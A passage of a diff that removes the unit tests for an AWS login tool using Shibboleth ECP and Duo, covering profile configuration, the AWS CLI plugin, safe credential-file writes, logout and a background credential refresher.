-            self.write(self.config_file, "[default]\necp_endpoint_url = %s\nusername = alice\n"
-                       "enable_keyring = False\nfactor = %s\nrole_arn = \nduration = 0\n"
-                       % (self.idp.url, word))
-            profile = aws_login.read_profile("default")
-            self.assertEqual((profile.factor, profile.duration), ("off", None), word)
-            before = len(self.idp.requests)
-            run = self.tool(["login", "--no-refresh"], [("Password: ", PASSWORD)])
-            self.assert_logged_in(run)
-            self.assertNotIn("Factor", run.tty)
-            for request in self.idp.requests[before:]:
-                for header in DUO_HEADERS + DUO_HEADERS_MISSPELLED:
-                    self.assertNotIn(header, request["headers"], word)
-            self.assertNotIn("DurationSeconds", self.sts.requests[-1]["form"])
-            self.tool(["logout", "--forget"], terminal=False)
-        self.assertRaises(aws_login.ConfigError, aws_login.check_factor, "never")
-        self.assertRaises(aws_login.ConfigError, aws_login.check_duration, "899")
-        self.assertEqual(aws_login.check_duration("900"), 900)
-
-    def test_a_blank_factor_without_a_terminal_is_auto(self):
-        self.write(self.config_file, "[default]\necp_endpoint_url = %s\nusername = alice\n"
-                   "factor = \n" % self.idp.url)
-        run = self.tool(["login", "--password-stdin", "--no-refresh"], terminal=False,
-                        stdin=(PASSWORD + "\n").encode())
-        self.assert_logged_in(run)
-        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "auto")
-
-    def test_awscli_login_root_stands_for_the_home_folder(self):
-        elsewhere = os.path.join(self.home, "elsewhere")
-        os.environ["AWSCLI_LOGIN_ROOT"] = elsewhere
-        self.assertEqual(aws_login.config_path(),
-                         os.path.join(elsewhere, ".aws-login", "config"))
-        del os.environ["AWSCLI_LOGIN_ROOT"]
-        self.assertEqual(aws_login.config_path(),
-                         os.path.join(self.home, ".aws-login", "config"))
-
-
-class NonInteractiveTest(LoginTestCase):
-    def test_password_from_stdin_without_a_terminal(self):
-        self.configure(username="alice", factor="auto")
-        run = self.tool(["login", "--password-stdin"], terminal=False,
-                        stdin=(PASSWORD + "\n").encode())
-        self.assert_logged_in(run)
-        run = self.tool(["login", "--password-stdin", "--force"], terminal=False, stdin=b"")
-        self.assertEqual(run.code, 2, run)
-
-    def test_password_from_stdin_is_kept_in_the_keyring(self):
-        keyring = FakeKeyring(self.home)
-        self.configure(username="alice", factor="auto", enable_keyring="true")
-        run = self.tool(["login", "--password-stdin"], terminal=False, env=keyring.env(),
-                        stdin=(PASSWORD + "\n").encode())
-        self.assert_logged_in(run)
-        self.assertEqual(keyring.items(), {"awscli_login alice@" + self.idp.host_port: PASSWORD})
-
-    def test_anything_missing_fails_at_once(self):
-        self.configure(username="bob", factor="auto", password="bob-pass")
-        started = time.time()
-        run = self.tool(["login"], terminal=False)      # two roles, none configured
-        self.assertEqual(run.code, 11, run)
-        self.assertIn("no terminal", run.stderr)
-        self.assertLess(time.time() - started, 10)
-
-
-class PythonApiTest(LoginTestCase):
-    def test_get_credentials_with_all_values_supplied(self):
-        self.configure(username="alice", factor="auto")
-        credentials = aws_login.get_credentials(password=PASSWORD)
-        self.assertEqual(credentials.access_key_id, self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(aws_login.cached_credentials().access_key_id, credentials.access_key_id)
-        self.assertIsNone(aws_login.cached_credentials(min_seconds_left=10 ** 6))
-        self.idp.expire_sessions()
-        with self.assertRaises(aws_login.InteractionRequired):
-            aws_login.get_credentials()                 # nothing to ask with, no prompt
-        self.assertEqual(aws_login.get_credentials(password=PASSWORD, store=False)
-                         .access_key_id, self.sts.issued[-1]["AccessKeyId"])
-
-    def test_all_lists_the_api_and_the_readme_documents_exactly_it(self):
-        for name in aws_login.__all__:
-            self.assertTrue(hasattr(aws_login, name), name)
-        self.assertEqual(len(set(aws_login.__all__)), len(aws_login.__all__))
-        with open(os.path.join(HERE, "README.md")) as f:
-            readme = f.read()
-        section = readme.split("### From Python (vendoring)")[1].split("\n## ")[0]
-        documented = set()
-        for row in section.splitlines():
-            if row.startswith("| `"):
-                documented.update(re.findall(r"`(\w+)[(`]", row.split(" | ")[0]))
-        self.assertEqual(documented, set(aws_login.__all__))
-
-    def test_login_logout_and_configure_take_a_profile_or_its_name(self):
-        self.configure("api", username="alice", factor="auto", password=PASSWORD)
-        profile = aws_login.read_profile("api")
-        for which in (profile, "api"):
-            credentials, role = aws_login.login(which, aws_login.Terminal(None),
-                                                interactive=False, mode="file")
-            self.assertEqual(self.credentials("api")["aws_access_key_id"],
-                             credentials.access_key_id)
-            self.assertEqual(aws_login.logout(which, forget=True)[0], ["api"])
-            self.assertIsNone(self.credentials("api"))
-        aws_login.configure(profile, values={"region": "eu-west-1"})
-        aws_login.configure("api", values={"duration": "3600"})
-        self.assertEqual((aws_login.read_profile("api").region,
-                          aws_login.read_profile("api").duration), ("eu-west-1", 3600))
-
-    def test_import_from_elsewhere_writes_opens_and_starts_nothing(self):
-        probe = (
-            "import os, sys\n"
-            "events = []\n"
-            "if hasattr(sys, 'addaudithook'):\n"
-            "    def hook(event, args):\n"
-            "        if event in ('socket.connect', 'socket.bind', 'subprocess.Popen', "
-            "'os.fork', 'os.exec', 'os.posix_spawn', 'os.system', 'os.mkdir', 'os.remove'):\n"
-            "            events.append(event)\n"
-            "        elif event == 'open' and ((args[1] and any(c in str(args[1]) for c in 'wax+'))"
-            " or (args[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):\n"
-            "            events.append('open for writing: %%r' %% (args[0],))\n"
-            "    sys.addaudithook(hook)\n"
-            "sys.path.insert(0, %r)\n"
-            "import aws_login\n"
-            "print(events)\n" % HERE)
-        where = tempfile.mkdtemp(dir=self.home)
-        before = sorted(os.walk(self.home))
-        out = subprocess.check_output([sys.executable, "-c", probe], cwd=where,
-                                      env=dict(os.environ, PYTHONDONTWRITEBYTECODE="1"))
-        self.assertEqual(out.strip(), b"[]")
-        self.assertEqual(sorted(os.walk(self.home)), before)
-
-
-class AwsCliPluginTest(LoginTestCase):
-    """The hook, with a stand-in for awscli's BasicCommand (the interop suite runs
-    the real AWS CLI v1)."""
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        fake = type(sys)("awscli.customizations.commands")
-
-        class BasicCommand(object):
-            def __init__(self, session):
-                self._session = session
-        fake.BasicCommand = BasicCommand
-        for name, module in (("awscli", type(sys)("awscli")),
-                             ("awscli.customizations", type(sys)("awscli.customizations")),
-                             ("awscli.customizations.commands", fake)):
-            self.assertNotIn(name, sys.modules)
-            sys.modules[name] = module
-            self.addCleanup(sys.modules.pop, name)
-
-    def test_hook_registers_login_logout_and_configure(self):
-        registered = {}
-
-        class Cli(object):
-            def register(self, event, handler):
-                registered[event] = handler
-        aws_login.awscli_initialize(Cli())
-        main_table, login_table = {}, {}
-        registered["building-command-table.main"](main_table, session="s")
-        registered["building-command-table.login"](login_table, session="s")
-        self.assertEqual(sorted(main_table), ["login", "logout"])
-        self.assertEqual(sorted(login_table), ["configure"])
-        self.configure("plug", username="alice", factor="auto", password=PASSWORD)
-        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
-        globals_ = type("Globals", (), {"profile": "plug"})()
-        saved = sys.stderr
-        sys.stderr = io.StringIO()
-        try:
-            code = main_table["login"]._run_main(args, globals_)
-        finally:
-            sys.stderr = saved
-        self.assertEqual(code, 0)
-        self.assertEqual(self.credentials("plug")["aws_access_key_id"],
-                         self.sts.issued[-1]["AccessKeyId"])
-
-    def run_main(self, command, args, globals_):
-        saved = sys.stderr
-        sys.stderr = io.StringIO()
-        try:
-            return command._run_main(args, globals_), sys.stderr.getvalue()
-        finally:
-            sys.stderr = saved
-
-    def tables(self):
-        registered = {}
-        aws_login.awscli_initialize(type("Cli", (), {
-            "register": lambda self, event, handler: registered.__setitem__(event, handler)})())
-        main_table, login_table = {}, {}
-        registered["building-command-table.main"](main_table, session="s")
-        registered["building-command-table.login"](login_table, session="s")
-        return main_table, login_table
-
-    def test_the_aws_cli_global_options_reach_the_tool(self):
-        main_table, login_table = self.tables()
-        ca = self.pems["ca"]
-        del os.environ["AWS_CA_BUNDLE"]     # the IdP's CA comes from `aws --ca-bundle` only
-        self.configure("plug", username="alice", factor="auto", password=PASSWORD)
-        login_args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
-        bare = type("Globals", (), {"profile": "plug", "ca_bundle": None, "region": None,
-                                    "verify_ssl": True})()
-        code, err = self.run_main(main_table["login"], login_args, bare)
-        self.assertEqual(code, 8, err)
-        self.assertIn("not trusted", err)
-        with_ca = type("Globals", (), {"profile": "plug", "ca_bundle": ca,
-                                       "region": "eu-west-1", "verify_ssl": True})()
-        code, err = self.run_main(main_table["login"], login_args, with_ca)
-        self.assertEqual(code, 0, err)
-        self.assertEqual(self.credentials("plug")["aws_access_key_id"],
-                         self.sts.issued[-1]["AccessKeyId"])
-        # configure keeps them as the profile's settings, with no prompt
-        names = ("ecp_endpoint_url", "username", "enable_keyring", "factor", "role_arn",
-                 "duration")
-        configure_args = type("Args", (), dict((n, None) for n in names))()
-        unverified = type("Globals", (), {"profile": "plug", "ca_bundle": ca,
-                                          "region": "eu-west-1", "verify_ssl": False})()
-        code, err = self.run_main(login_table["configure"], configure_args, unverified)
-        self.assertEqual(code, 0, err)
-        profile = aws_login.read_profile("plug")
-        self.assertEqual((profile.ca_bundle, profile.region, profile.verify_ssl_certificate),
-                         (ca, "eu-west-1", False))
-        self.assertEqual(aws_login._awscli_global_options("logout", unverified), [])
-        self.assertEqual(aws_login._awscli_global_options("login", unverified),
-                         ["--ca-bundle", ca, "--region", "eu-west-1", "--no-verify-ssl"])
-
-    def test_hints_in_the_plugin_name_aws_login(self):
-        main_table, _ = self.tables()
-        args = type("Args", (), {"role_arn": None, "force": False, "no_refresh": True})()
-        code, err = self.run_main(main_table["login"], args,
-                                  type("Globals", (), {"profile": "nowhere"})())
-        self.assertEqual(code, 3)
-        self.assertEqual(err, "aws_login: error: profile 'nowhere' is not configured: run "
-                              "`aws --profile nowhere login configure`\n")
-
-
-class PluginManagementTest(HomeTestCase):
-    """`plugin enable/disable/status` against a stand-in AWS CLI that loads its
-    plugins as the AWS CLI does (an import failure breaks every command), run by
-    the Python of a throwaway venv (the interop suite uses the real AWS CLI v1)."""
-
-    FAKE_AWS = (
-        "import configparser, os, sys\n"
-        "VERSION = %r\n"
-        "parser = configparser.RawConfigParser()\n"
-        "parser.read(os.environ.get('AWS_CONFIG_FILE') or os.path.expanduser('~/.aws/config'))\n"
-        "plugins = dict(parser.items('plugins')) if parser.has_section('plugins') else {}\n"
-        "if VERSION.startswith('2') and 'cli_legacy_plugin_path' in plugins:\n"
-        "    sys.path.append(plugins.pop('cli_legacy_plugin_path'))\n"
-        "plugins.pop('cli_legacy_plugin_path', None)\n"
-        "if os.environ.get('FAKE_AWS_BROKEN'):\n"
-        "    sys.path[:] = [p for p in sys.path if 'site-packages' not in p]\n"
-        "modules = [__import__(m) for m in plugins.values() if m]\n"
-        "if sys.argv[1:] == ['--version']:\n"
-        "    print('aws-cli/%%s Python/3 Linux botocore/1' %% VERSION); sys.exit(0)\n"
-        "if sys.argv[1:] == ['login'] and os.environ.get('AWS_LOGIN_PLUGIN_PROBE'):\n"
-        "    for m in modules:\n"
-        "        if hasattr(m, 'awscli_initialize'):\n"
-        "            print(os.environ['AWS_LOGIN_PLUGIN_PROBE'], m.__file__); sys.exit(0)\n"
-        "print('aws: error: argument command: Invalid choice'); sys.exit(252)\n")
-
-    def setUp(self):
-        HomeTestCase.setUp(self)
-        self.venv = os.path.join(self.home, "venv")
-        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", self.venv])
-        self.python = os.path.join(self.venv, "bin", "python")
-        self.aws_config = os.environ["AWS_CONFIG_FILE"]
-
-    def fake_aws(self, version="1.45.11", shebang=None):
-        path = os.path.join(self.venv, "bin", "aws")
-        with open(path, "w") as f:
-            f.write((shebang or "#!%s\n" % self.python) + self.FAKE_AWS % version)
-        os.chmod(path, 0o755)
-        return path
-
-    def site_packages(self):
-        out = subprocess.check_output([self.python, "-c", "import sysconfig;print("
-                                       "sysconfig.get_paths()['purelib'])"])
-        return out.decode().strip()
-
-    def plugin(self, *words, **kw):
-        return run_tool(["plugin"] + list(words), env=dict(os.environ, **kw.get("env", {})),
-                        terminal=False)
-
-    CONFIGS = (None, "", "# mine\r\n[default]\r\nregion = eu-west-1\r\n",
-               "[default]\nregion = x", "[plugins]\nlogin = awscli_login\n",
-               "[profile a]\noutput = json\n\n[plugins]\nlogin = awscli_login\n")
-
-    def test_enable_proves_and_disable_restores_the_config_byte_for_byte(self):
-        aws = self.fake_aws()
-        for before in self.CONFIGS:
-            if before is None:
-                if os.path.exists(self.aws_config):
-                    os.remove(self.aws_config)
-            else:
-                self.write(self.aws_config, before)
-            run = self.plugin("enable", "--aws", aws)
-            self.assertEqual(run.code, 0, run)
-            module = os.path.join(self.site_packages(), "aws_login.py")
-            with open(module, "rb") as f, open(SCRIPT, "rb") as g:
-                self.assertEqual(f.read(), g.read())
-            import configparser
-            parser = configparser.RawConfigParser()
-            parser.read(self.aws_config)
-            self.assertEqual(parser.get("plugins", "login"), "aws_login")
-            probe = subprocess.run([aws, "login"], env=dict(os.environ,
-                                                            AWS_LOGIN_PLUGIN_PROBE="x"),
-                                   stdout=subprocess.PIPE)
-            self.assertEqual(probe.stdout.decode().split(), ["x", module])
-            status = self.plugin("status", "--aws", aws)
-            self.assertIn("plugin: on", status.stdout)
-            self.assertIn(module, status.stdout)
-            self.assertNotIn("built-in", status.stdout)
-            run = self.plugin("disable", env={"PATH": "/nonexistent"})   # never runs aws
-            self.assertEqual(run.code, 0, run)
-            if before is None:
-                self.assertFalse(os.path.exists(self.aws_config))
-            else:
-                self.assertEqual(self.read(self.aws_config), before, repr(before))
-            self.assertFalse(os.path.exists(module))
-            self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login",
-                                                         "plugin.json")))
-            self.assertIn("plugin: off", self.plugin("status", "--aws", aws).stdout)
-
-    def test_an_aws_cli_that_cannot_load_it_is_left_working(self):
-        aws = self.fake_aws()
-        before = "[default]\nregion = eu-west-1\n"
-        self.write(self.aws_config, before)
-        run = self.plugin("enable", "--aws", aws, env={"FAKE_AWS_BROKEN": "1"})
-        self.assertEqual(run.code, 3, run)
-        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
-        self.assertIn("undone", run.stderr)
-        self.assertNotIn("Traceback", run.stderr)
-        self.assertEqual(self.read(self.aws_config), before)
-        self.assertFalse(os.path.exists(os.path.join(self.site_packages(), "aws_login.py")))
-        done = subprocess.run([aws, "--version"], env=dict(os.environ, FAKE_AWS_BROKEN="1"),
-                              stdout=subprocess.PIPE)
-        self.assertEqual(done.returncode, 0)
-
-    def test_aws_cli_v2_gets_a_plugin_path_and_a_warning_of_its_own_login(self):
-        aws = self.fake_aws(version="2.33.1")
-        run = self.plugin("enable", "--aws", aws)
-        self.assertEqual(run.code, 0, run)
-        folder = os.path.join(self.home, ".aws-login", "plugin")
-        self.assertTrue(os.path.isfile(os.path.join(folder, "aws_login.py")))
-        import configparser
-        parser = configparser.RawConfigParser()
-        parser.read(self.aws_config)
-        self.assertEqual(parser.get("plugins", "cli_legacy_plugin_path"), folder)
-        status = self.plugin("status", "--aws", aws)
-        self.assertIn("built-in `aws login`", status.stdout)
-        self.assertEqual(self.plugin("disable").code, 0)
-        self.assertFalse(os.path.exists(self.aws_config))
-
-    def test_a_manual_plugin_line_is_removed_without_a_record(self):
-        self.write(self.aws_config, "[default]\nregion = x\n\n[plugins]\nlogin = aws_login\n")
-        run = self.plugin("disable")
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("removed", run.stderr.lower())
-        self.assertEqual(self.read(self.aws_config), "[default]\nregion = x\n\n[plugins]\n")
-
-    def test_the_python_of_an_aws_script_is_found(self):
-        py = self.python
-        for shebang in ("#!%s\n" % py, "#!/usr/bin/env %s\n" % py,
-                        "#!/bin/sh\n'''exec' \"%s\" \"$0\" \"$@\"\n' '''\n" % py):
-            aws = self.fake_aws(shebang=shebang)
-            self.assertEqual(aws_login._cli_python(aws), py, shebang)
-        aws = self.fake_aws(shebang="#!/bin/bash\nexec something\n")
-        with self.assertRaises(aws_login.ConfigError) as caught:
-            aws_login._cli_python(aws)
-        self.assertIn("--aws", str(caught.exception))
-
-
-# ---------------------------------------------------------------------------
-# Credential store
-# ---------------------------------------------------------------------------
-
-def _fake_credentials(n=0):
-    return aws_login.Credentials("ASIA%016d" % n, "secret%d" % n, "token%d" % n,
-                                 aws_login.parse_timestamp("2030-01-01T00:00:00Z"))
-
-
-class CredentialStoreTest(HomeTestCase):
-    def test_mode_is_0600_whatever_the_umask(self):
-        old = os.umask(0)
-        try:
-            aws_login.write_credentials("p", _fake_credentials(), ADMIN)
-        finally:
-            os.umask(old)
-        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)
-        self.write(self.credentials_file, "[x]\nk = v\n", mode=0o644)
-        aws_login.write_credentials("p", _fake_credentials(), ADMIN)
-        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)
-
-    def test_symlinked_file_is_followed_and_stays_a_link(self):
-        target = os.path.join(self.home, "dotfiles", "aws-credentials")
-        self.write(target, "[other]\nk = v\n")
-        os.makedirs(os.path.dirname(self.credentials_file))
-        os.symlink(target, self.credentials_file)
-        aws_login.write_credentials("p", _fake_credentials(), ADMIN)
-        self.assertTrue(os.path.islink(self.credentials_file))
-        self.assertIn("[p]", self.read(target))
-        self.assertTrue(self.read(target).startswith("[other]\nk = v\n"))
-
-    def test_login_then_logout_is_byte_identical(self):
-        original = ("# comment\r\n[default]\r\naws_access_key_id=AKIA1\r\n"
-                    "aws_secret_access_key =x\r\n\r\n[z]  \r\nk:v")
-        self.write(self.credentials_file, original)
-        aws_login.write_credentials("p", _fake_credentials(), ADMIN)
-        aws_login.write_credentials("p", _fake_credentials(1), ADMIN)
-        self.assertEqual(aws_login.remove_credentials("p"), ["p"])
-        self.assertEqual(self.read(self.credentials_file), original)
-
-    def test_processes_writing_different_profiles_at_once_lose_nothing(self):
-        code = ("import sys; sys.path.insert(0, %r); import aws_login, datetime\n"
-                "for i in range(15):\n"
-                "    aws_login.write_credentials(sys.argv[1], aws_login.Credentials("
-                "'ASIA' + sys.argv[1], 's', 't%%d' %% i, datetime.datetime(2030, 1, 1, "
-                "tzinfo=datetime.timezone.utc)), %r)\n" % (HERE, ADMIN))
-        procs = [subprocess.Popen([sys.executable, "-c", code, "p%d" % i], env=os.environ)
-                 for i in range(8)]
-        self.assertEqual([p.wait() for p in procs], [0] * 8)
-        for i in range(8):
-            self.assertEqual(self.credentials("p%d" % i)["aws_session_token"], "t14")
-        self.assertEqual([n for n in os.listdir(os.path.dirname(self.credentials_file))],
-                         ["credentials"])       # no temp or lock files left behind
-
-    def test_unparseable_file_is_left_alone(self):
-        self.write(self.credentials_file, "no section header\nk = v\n")
-        self.assertRaises(aws_login.CredentialsFileError, aws_login.write_credentials, "p",
-                          _fake_credentials(), ADMIN)
-        self.assertEqual(self.read(self.credentials_file), "no section header\nk = v\n")
-
-
-# ---------------------------------------------------------------------------
-# logout and configure (commands)
-# ---------------------------------------------------------------------------
-
-class LogoutTest(LoginTestCase):
-    def test_logout_removes_only_the_profile(self):
-        before = "[work]\naws_access_key_id = AKIA\naws_secret_access_key = s\n"
-        self.write(self.credentials_file, before)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        self.configure("second", username="alice", factor="auto", password=PASSWORD)
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        self.assert_logged_in(self.tool(["--profile", "second", "login"], terminal=False),
-                              profile="second")
-        run = self.tool(["logout"], terminal=False)
-        self.assertEqual((run.code, run.stderr), (0, "Logged out of profile default.\n"))
-        self.assertIsNone(self.credentials("default"))
-        self.assertIsNotNone(self.credentials("second"))
-        run = self.tool(["logout", "--all"], terminal=False)
-        self.assertEqual(run.code, 0)
-        self.assertEqual(self.read(self.credentials_file), before)
-
-    def test_logging_out_twice_is_calm_with_exit_10(self):
-        run = self.tool(["logout"], terminal=False)
-        self.assertEqual(run.code, 10)
-        self.assertEqual(run.stderr, "Not logged in to profile default: nothing to remove.\n")
-
-    def test_logout_leaves_sections_it_did_not_write(self):
-        before = "[default]\naws_access_key_id = AKIA\naws_secret_access_key = s\n"
-        self.write(self.credentials_file, before)
-        run = self.tool(["logout"], terminal=False)
-        self.assertEqual(run.code, 9)
-        self.assertEqual(self.read(self.credentials_file), before)
-
-
-class ConfigureTest(LoginTestCase):
-    def test_prompts_validate_and_reask(self):
-        self.write(self.config_file, "# my settings\n[other]\nusername = x\n")
-        run = self.tool(["configure"], [
-            ("ECP Endpoint URL [None]: ", "http://idp.example.edu/ecp"),
-            ("ECP Endpoint URL [None]: ", self.idp.url),
-            ("Username [None]: ", "alice"),
-            ("Enable Keyring [False]: ", "maybe"),
-            ("Enable Keyring [False]: ", "true"),
-            ("Duo Factor [None]: ", "yubikey"),
-            ("Duo Factor [None]: ", "push"),
-            ("Role ARN [None]: ", "arn:aws:iam::1:role/x"),
-            ("Role ARN [None]: ", ADMIN),
-            ("Use credential_process [False]: ", "")])
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("plain http", run.tty)
-        self.assertIn("not one of auto, push", run.tty)
-        self.assertEqual(self.read(self.config_file),
-                         "# my settings\n[other]\nusername = x\n\n[default]\n"
-                         "ecp_endpoint_url = %s\nusername = alice\nenable_keyring = true\n"
-                         "factor = push\nrole_arn = %s\n" % (self.idp.url, ADMIN))
-        self.assertEqual(os.stat(self.config_file).st_mode & 0o777, 0o600)
-        self.assertEqual(os.stat(os.path.dirname(self.config_file)).st_mode & 0o777, 0o700)
-        run = self.tool(["configure"], [("ECP Endpoint URL [%s]: " % self.idp.url, ""),
-                                        ("Username [alice]: ", "bob"),
-                                        ("Enable Keyring [True]: ", ""),
-                                        ("Duo Factor [push]: ", ""),
-                                        ("Role ARN [%s]: " % ADMIN, ""),
-                                        ("Use credential_process [False]: ", "")])
-        self.assertEqual(run.code, 0, run)
-        profile = aws_login.read_profile("default")
-        self.assertEqual((profile.username, profile.factor, profile.enable_keyring),
-                         ("bob", "push", True))
-
-    def test_flags_set_values_without_prompts(self):
-        run = self.tool(["--profile", "ci", "configure", "--ecp-endpoint-url", self.idp.url,
-                         "--username", "alice", "--factor", "passcode", "--role-arn", ADMIN,
-                         "--duration", "3600", "--region", "eu-west-1",
-                         "--ca-bundle", self.pems["ca"]], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        profile = aws_login.read_profile("ci")
-        self.assertEqual((profile.username, profile.factor, profile.role_arn, profile.duration,
-                          profile.region), ("alice", "passcode", ADMIN, 3600, "eu-west-1"))
-        run = self.tool(["configure", "--ecp-endpoint-url", "http://idp.example.edu/"],
-                        terminal=False)
-        self.assertEqual(run.code, 3)
-        self.assertFalse(aws_login.read_profile("default", require_endpoint=False)
-                         .ecp_endpoint_url)
-
-
-# ---------------------------------------------------------------------------
-# Refresher
-# ---------------------------------------------------------------------------
-
-def _process_state(pid):
-    """'R', 'S', 'Z' ... from /proc, or None once the process is gone."""
-    try:
-        with open("/proc/%d/stat" % pid) as f:
-            return f.read().rsplit(")", 1)[1].split()[0]
-    except OSError:
-        return None
-
-
-def _holds_file(pid, path):
-    """Whether process ``pid`` has ``path`` open (a refresher holds its pid file)."""
-    try:
-        target = os.stat(path)
-        fds = os.listdir("/proc/%d/fd" % pid)
-    except OSError:
-        return False
-    for fd in fds:
-        try:
-            st = os.stat("/proc/%d/fd/%s" % (pid, fd))
-        except OSError:
-            continue
-        if (st.st_dev, st.st_ino) == (target.st_dev, target.st_ino):
-            return True
-    return False
-
-
-def _wait_for(predicate, timeout, step=0.1):
-    deadline = time.time() + timeout
-    while time.time() < deadline:
-        if predicate():
-            return True
-        time.sleep(step)
-    return predicate()
-
-
-def _start_ticks(pid):
-    """Field 22 of /proc/PID/stat: when the process started, in ticks since boot."""
-    with open("/proc/%d/stat" % pid, "rb") as f:
-        return f.read().rsplit(b")", 1)[1].split()[19].decode()
-
-
-def _boot_id():
-    with open("/proc/sys/kernel/random/boot_id") as f:
-        return f.read().strip()
-
-
-# Stands in for a refresher: its command line runs "_refresher_loop(" for the
-# profile in argv[1]; it notes each SIGTERM and SIGWINCH in the file argv[2]
-# and keeps running.
-FAKE_REFRESHER = ("import signal, sys, time\n"
-                  "def note(signum, frame):\n"
-                  "    with open(sys.argv[2], 'a') as f:\n"
-                  "        f.write('%d\\n' % signum)\n"
-                  "signal.signal(signal.SIGTERM, note)\n"
-                  "signal.signal(signal.SIGWINCH, note)\n"
-                  "open(sys.argv[2], 'a').close()\n"
-                  "while True:\n"
-                  "    time.sleep(1)  # stands in for m._refresher_loop(")
-
-
-class SharedHomeTest(LoginTestCase):
-    """A home that several hosts share (NFS): logout signals only a refresher
-    that provably runs here, and names the host where another one runs."""
-
-    OTHER_HOST = "login2.cluster.example.edu"
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        self.run_dir = os.path.join(self.home, ".aws-login", "run")
-        self.locked = set()
-
-    def process(self, argv):
-        proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                                stderr=subprocess.DEVNULL)
-        self.addCleanup(self._end, proc)
-        return proc
-
-    @staticmethod
-    def _end(proc):
-        if proc.poll() is None:
-            proc.kill()
-        proc.wait()
-
-    def fake_refresher(self, profile="default"):
-        marker = tempfile.mktemp(prefix="signals-", dir=self.home)
-        proc = self.process([sys.executable, "-c", FAKE_REFRESHER, profile, marker])
-        self.assertTrue(_wait_for(lambda: os.path.exists(marker), 20))
-        proc.marker = marker
-        return proc
-
-    def signals(self, fake):
-        """The signals ``fake`` got so far but SIGWINCH.  A SIGWINCH sent now is
-        noted after any signal sent before it (the lowest number comes first)."""
-        winch = "%d" % signal.SIGWINCH
-        seen = lambda: self.read(fake.marker).split()
-        before = seen().count(winch)
-        os.kill(fake.pid, signal.SIGWINCH)
-        self.assertTrue(_wait_for(lambda: seen().count(winch) > before, 20))
-        return [int(s) for s in seen() if s != winch]
-
-    def hold_pid_file(self, text, profile="default"):
-        """The profile's pid file holding ``text``, locked as a live refresher's is."""
-        os.makedirs(self.run_dir, 0o700, exist_ok=True)
-        path = os.path.join(self.run_dir, profile + ".pid")
-        self.write(path, text)
-        if path not in self.locked:
-            fd = os.open(path, os.O_RDONLY)
-            fcntl.flock(fd, fcntl.LOCK_EX)
-            self.addCleanup(os.close, fd)
-            self.locked.add(path)
-
-    def record(self, pid, host=None, boot_id=None, start_time=None):
-        return "%d 1900000000\nhost %s\nboot_id %s\nstart_time %s\nrole %s\n" % (
-            pid, host or os.uname().nodename, boot_id or _boot_id(),
-            start_time or _start_ticks(pid), ADMIN)
-
-    def logout(self):
-        run = self.tool(["logout"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("Logged out of profile default.\n", run.stderr)
-        self.assertIsNone(self.credentials())
-        return run
-
-    def stop(self, wait=0.5):
-        """stop_refresher in this process: (its answer, what it said on stderr)."""
-        err = io.StringIO()
-        saved, sys.stderr = sys.stderr, err
-        try:
-            return aws_login.stop_refresher("default", wait), err.getvalue()
-        finally:
-            sys.stderr = saved
-
-    def test_a_refresher_on_another_host_is_named_and_never_signalled(self):
-        sleeper = self.process(["sleep", "120"])
-        self.hold_pid_file(self.record(sleeper.pid, host=self.OTHER_HOST))
-        warning = ("aws_login: warning: profile default's refresher (pid %d) runs on host %s, "
-                   "not here: it was not signalled; it stops by itself within 30 s of finding "
-                   "its credentials removed or replaced by another role"
-                   % (sleeper.pid, self.OTHER_HOST))
-        run = self.logout()
-        self.assertIsNone(sleeper.poll())
-        self.assertEqual([line for line in run.stderr.splitlines()
-                          if line.startswith("aws_login:")], [warning])
-        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
-        self.assertEqual((row["refresher_pid"], row["refresher_alive"], row["refresher_host"],
-                          row["refresher_local"]), (sleeper.pid, True, self.OTHER_HOST, False))
-        self.assertRegex(self.tool(["status"], terminal=False).stdout,
-                         r"\ndefault .* pid %d on %s "
-                         % (sleeper.pid, re.escape(self.OTHER_HOST)))
-        run = self.tool(["login"], terminal=False)     # refresh = false: it stops none
-        self.assertEqual(run.code, 0, run)
-        self.assertIn(warning + "\n", run.stderr)
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        run = self.tool(["login"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertIn("Already logged in to profile default as %s until " % ADMIN, run.stderr)
-        self.assertIn("the refresher (pid %d on host %s) keeps" % (sleeper.pid, self.OTHER_HOST),
-                      run.stderr)
-        self.assertIsNone(sleeper.poll())
-
-    def test_pid_zero_or_garbage_signals_nothing(self):
-        self.hold_pid_file("0 0\n")                 # kill(0) would hit logout's own group
-        self.logout()
-        for data in (b"-1 0\n", b"0 0\n", b"", b"\n", b"x 1\n", b"12 x\n", b" \n12 1\n"):
-            self.assertIsNone(aws_login.parse_pid_file(data, True), data)
-
-    def test_the_pid_file_is_rewritten_in_place_and_read_strictly(self):
-        path = os.path.join(self.home, "pid")
-        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
-        self.addCleanup(os.close, fd)
-        aws_login._record(fd, 1900000000.4, "host a\nrole %s\n" % ADMIN)
-        self.assertEqual(self.read(path),
-                         "%d 1900000000\nhost a\nrole %s\n" % (os.getpid(), ADMIN))
-        aws_login._record(fd, None, "host b\n")
-        self.assertEqual(self.read(path), "%d 0\nhost b\n" % os.getpid())
-        state = aws_login.parse_pid_file(
